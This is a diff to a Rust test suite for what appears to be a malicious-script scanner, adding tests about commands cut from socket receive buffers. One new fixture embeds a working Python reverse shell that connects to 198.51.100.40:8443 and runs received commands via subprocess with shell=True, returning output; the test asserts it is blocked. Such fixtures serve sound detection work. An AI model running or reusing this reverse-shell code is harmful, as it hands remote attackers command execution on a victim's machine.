@@ -291,11 +291,11 @@ HTTPServer(("127.0.0.1", 8081), H).serve_forever()
 /// PyPI (ec76111: BLOCKED); a prompt in PyPI's name still is one.
 #[test]
 fn argument_parser_is_no_imitated_prompt() {
-    let cli = r#"import argparse, urllib.request
+    let cli = r#"import argparse, sys, urllib.request
 INDEX = "https://pypi.example.org/simple/"
 ap = argparse.ArgumentParser()
 ap.add_argument("package")
-args = ap.parse_args()
+args = ap.parse_args(sys.argv[1:])
 urllib.request.urlopen(INDEX + args.package + "/")
 "#;
     let a = run(cli);
@@ -405,4 +405,41 @@ Assoc().set("notepad.exe %1")
 "#;
     let a = run(assoc);
     assert!(!rules(&a).contains(&"MB957"), "{:?}", a.findings);
+}
+
+/// Lines cut from a receive buffer that each cut rebinds carry the
+/// network data into the command they run (ec76111: MEDIUM).
+#[test]
+fn commands_cut_from_a_rebound_receive_buffer() {
+    let agent = r#"import socket, subprocess
+conn = socket.create_connection(("198.51.100.40", 8443))
+pending = b""
+while True:
+    pending = pending + conn.recv(1024)
+    while b";" in pending:
+        cmd, pending = pending.split(b";", 1)
+        out = subprocess.check_output(cmd.decode(), shell=True)
+        conn.sendall(out)
+"#;
+    let a = run(agent);
+    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same buffer cut into log lines that are only printed runs
+/// nothing.
+#[test]
+fn lines_cut_from_a_receive_buffer_and_printed_run_nothing() {
+    let tail = r#"import socket
+conn = socket.create_connection(("logs.example.org", 514))
+pending = b""
+while True:
+    pending = pending + conn.recv(1024)
+    while b"\n" in pending:
+        line, pending = pending.split(b"\n", 1)
+        print(line.decode())
+"#;
+    let a = run(tail);
+    assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
